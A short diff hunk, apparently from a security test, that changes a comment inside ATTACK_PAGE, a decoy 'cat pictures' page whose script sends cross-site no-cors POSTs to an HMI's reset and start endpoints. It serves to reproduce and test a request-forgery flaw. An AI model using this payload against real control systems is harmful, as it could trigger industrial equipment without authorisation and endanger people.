@@ -350,7 +350,7 @@ ATTACK_PAGE = """<!doctype html><title>cat pictures</title>
 window.results = {};
 (async function attack() {
   const r = window.results, BASE = "HMI";
-  for (const cmd of ["reset", "start"]) {  // the issue's reproduction: no-cors posts
+  for (const cmd of ["reset", "start"]) {  // the attack: no-cors posts
     try { await fetch(BASE + "/api/run/" + cmd, {method: "POST", mode: "no-cors"}); r[cmd] = "sent"; }
     catch (e) { r[cmd] = "error"; }
   }
